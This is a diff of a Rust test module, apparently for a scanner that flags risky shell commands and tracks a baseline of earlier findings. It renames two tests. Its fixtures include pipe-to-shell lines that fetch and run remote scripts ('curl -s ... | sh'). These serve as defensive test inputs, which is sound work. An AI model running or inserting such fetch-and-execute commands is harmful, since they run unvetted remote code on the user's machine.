@@ -137,7 +137,7 @@ mod tests {
     }
 
     #[test]
-    fn only_what_was_found_before_is_known() {
+    fn only_earlier_findings_are_in_the_baseline() {
         let old = "Run:\n\n  curl -s https://e.example/x | sh\n";
         let mut baseline = Baseline::default();
         for finding in scanned("a.md", old, |scan| known(&scan)) {
@@ -163,7 +163,7 @@ mod tests {
     }
 
     #[test]
-    fn a_line_that_stands_is_new_once_another_line_gives_it_another_meaning() {
+    fn an_unchanged_line_is_new_when_another_line_changes_its_meaning() {
         let cases = [
             ("a.sh", "URL=https://good.example/x\n\ncurl -s $URL | sh\n", ("good", "evil")),
             (
